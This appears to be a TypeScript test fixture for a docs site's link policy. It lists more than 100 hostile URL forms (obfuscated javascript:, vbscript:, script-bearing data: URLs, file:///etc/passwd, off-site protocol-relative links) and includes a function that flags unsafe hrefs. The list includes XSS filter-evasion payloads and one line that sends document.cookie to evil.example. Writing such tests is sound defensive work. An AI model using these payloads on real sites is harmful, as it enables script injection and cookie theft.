/**
 * Hostile URL forms, shared by every layer's link tests (core policy, React 18/19 components, the
 * built drop-in in Chromium). Each one must be refused by the URL policy: rendered as plain text
 * and never navigated to. Script payloads set `window.__pwned`, so a page can prove nothing ran.
 */

const JS = 'window.__pwned=1'

/** `javascript:` spelled every way a browser still reads as `javascript:`. */
const scriptForms: string[] = [
  `javascript:${JS}`,
  `JAVASCRIPT:${JS}`,
  `JaVaScRiPt:${JS}`,
  ` javascript:${JS}`,
  `   javascript:${JS}`,
  `\tjavascript:${JS}`,
  `\njavascript:${JS}`,
  `\r\njavascript:${JS}`,
  `\u0000javascript:${JS}`,
  `\u0001javascript:${JS}`,
  `\u001fjavascript:${JS}`,
  `\u00a0javascript:${JS}`,
  `\u3000javascript:${JS}`,
  `\ufeffjavascript:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `java\rscript:${JS}`,
  `j\ta\nv\ra\tscript:${JS}`,
  `java\u0000script:${JS}`,
  `java\u200bscript:${JS}`,
  `java\u200dscript:${JS}`,
  `java\u00adscript:${JS}`,
  `java\u2028script:${JS}`,
  `java\u202escript:${JS}`,
  `java\u2060script:${JS}`,
  `javascript\t:${JS}`,
  `javascript\n:${JS}`,
  `jav&#x61;script:${JS}`,
  `jav&#X61;script:${JS}`,
  `jav&#97;script:${JS}`,
  `jav&#0000097;script:${JS}`,
  `jav&#x0000061;script:${JS}`,
  `jav&#97script:${JS}`,
  `&#106;avascript:${JS}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${JS}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${JS}`,
  `javascript&colon;${JS}`,
  `javascript&#58;${JS}`,
  `javascript&#x3a;${JS}`,
  `java&Tab;script:${JS}`,
  `java&NewLine;script:${JS}`,
  `&Tab;javascript:${JS}`,
  `jav&amp;#x61;script:${JS}`,
  `jav&amp;#97;script:${JS}`,
  `javascript&amp;colon;${JS}`,
  `java&amp;Tab;script:${JS}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${JS}>`,
  `javascript://%0a${JS}`,
  `javascript://comment%0d%0a${JS}`,
  `javascript:void(${JS})`,
  `javascript:${encodeURIComponent(JS)}`,
  `javascript:fetch('//evil.example/'+document.cookie)`,
  'javascript:',
  'javascript:;',
  `  \t\n JaVa\tScRi\npT&colon;${JS}`,
  `jAvAsCrIpT&#58;${JS}`,
  `javascript:alert(document.domain)`,
  `javascript:top.__pwned=1`,
  `javascript:parent.__pwned=1`,
  `javascript:eval('window.__pwned=1')`,
]

/** Other schemes that must never be links. */
const otherSchemes: string[] = [
  `vbscript:msgbox(1)`,
  `VBSCRIPT:msgbox(1)`,
  `VbScRiPt:msgbox(1)`,
  ` vbscript:msgbox(1)`,
  `vb\tscript:msgbox(1)`,
  `vbscript&colon;msgbox(1)`,
  `&#118;bscript:msgbox(1)`,
  'data:text/html,<script>window.__pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
  'DATA:text/html,<script>window.__pwned=1</script>',
  'DaTa:text/html,<script>window.__pwned=1</script>',
  ' data:text/html,<script>window.__pwned=1</script>',
  'da\tta:text/html,<script>window.__pwned=1</script>',
  'data&colon;text/html,<script>window.__pwned=1</script>',
  '&#100;ata:text/html,<script>window.__pwned=1</script>',
  'data:image/svg+xml,<svg onload="window.__pwned=1"/>',
  'data:application/javascript,window.__pwned=1',
  'data:,window.__pwned=1',
  'file:///etc/passwd',
  'FILE:///C:/Windows/win.ini',
  'file://evil.example/share',
  ' file:///etc/passwd',
  'blob:https://evil.example/6f1c',
  'filesystem:https://evil.example/temporary/x',
  'about:blank',
  'about:srcdoc',
  'chrome://settings',
  'chrome-extension://abcdefghijklmnop/page.html',
  'view-source:https://evil.example',
  'intent://evil.example#Intent;scheme=https;end',
  'ftp://files.evil.example/x',
  'ws://evil.example/socket',
  'wss://evil.example/socket',
  'jar:https://evil.example/x.jar!/',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x',
  'tel:+15555550123',
  'sms:+15555550123',
  'livescript:window.__pwned=1',
  'mocha:window.__pwned=1',
  'x-javascript:window.__pwned=1',
]

/** Protocol-relative forms: another site, never a docs path. */
const offSite: string[] = [
  '//evil.example',
  '//evil.example/quickstart',
  ' //evil.example',
  '\t//evil.example',
  '\n//evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '\\\\evil.example',
  '\\\\evil.example/path',
  '/\\evil.example',
  '\\/evil.example',
  '&#92;&#92;evil.example',
  '&#47;&#47;evil.example',
  '&sol;&sol;evil.example',
  '&bsol;&bsol;evil.example',
  '/&#92;evil.example',
  '/\u0000/evil.example',
  '/\u200b/evil.example',
  '//evil.example@docs.example.com',
  '///evil.example',
]

/** Empty and junk values that have nowhere safe to go. */
const junk: string[] = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  '&Tab;&NewLine;',
  'http:',
  'https://',
  'http://\t',
]

/** At least 100 hostile URL forms; every one must be refused. */
export const hostileUrls: readonly string[] = [...scriptForms, ...otherSchemes, ...offSite, ...junk]

/**
 * Attachment URLs that must never be loaded or linked, on top of `hostileUrls`: data URLs of a type
 * a browser would run or that hides its type, and the allowed types written so a lenient reader
 * could take them for something else.
 */
export const hostileAttachmentUrls: readonly string[] = [
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=',
  'data:image/svg+xml,<svg onload="window.__pwned=1"/>',
  'data:application/xhtml+xml;base64,PHNjcmlwdD4=',
  'data:text/javascript;base64,d2luZG93Ll9fcHduZWQ9MQ==',
  'data:image/png,<script>window.__pwned=1</script>',
  'data:image/png;charset=utf-8;base64,iVBORw0KGgo=',
  'data:image/png;base64,iVBOR w0KGgo=',
  'data:image/png;base64,iVBOR%0Aw0KGgo=',
  ' data:image/png;base64,iVBORw0KGgo=',
  'data:image/png;base64,',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'data:application/pdf;base64,JVBERi0=<script>',
  'data:image/png;base64,iVBORw0KGgo=\n',
  'mailto:someone@example.com',
  'blob:https://evil.example/0b1c',
  'filesystem:https://evil.example/temporary/x.png',
]

const ALLOWED_HREF = /^(https?:|mailto:)/i

/**
 * Why a rendered `href` is unsafe, or `null` when it is fine. Independent of the policy it checks:
 * the browser's own parser must read it as http(s) or mailto, or as a path on the same origin.
 */
export function unsafeHrefReason(href: string | null | undefined): string | null {
  if (href == null) return null
  // The attribute is what the browser parses: any character it strips could hide a scheme.
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are the concern
  if (/[\u0000-\u001f\u007f]/.test(href)) return `control character in ${JSON.stringify(href)}`
  if (/^\s/.test(href)) return `leading whitespace in ${JSON.stringify(href)}`
  let parsed: URL
  const origin = 'https://page.invalid'
  try {
    parsed = new URL(href, `${origin}/a/b`)
  } catch {
    return `unparsable ${JSON.stringify(href)}`
  }
  if (!ALLOWED_HREF.test(parsed.protocol)) return `scheme ${parsed.protocol} in ${href}`
  const absolute = /^[a-z][a-z0-9+.-]*:/i.test(href)
  if (!absolute && parsed.origin !== origin) return `relative href leaves the page: ${href}`
  if (/^[\\/]{2}/.test(href.replace(/\\/g, '/'))) return `protocol-relative ${href}`
  if (/evil\.example/.test(parsed.host)) return `link to the attacker's host: ${href}`
  return null
}
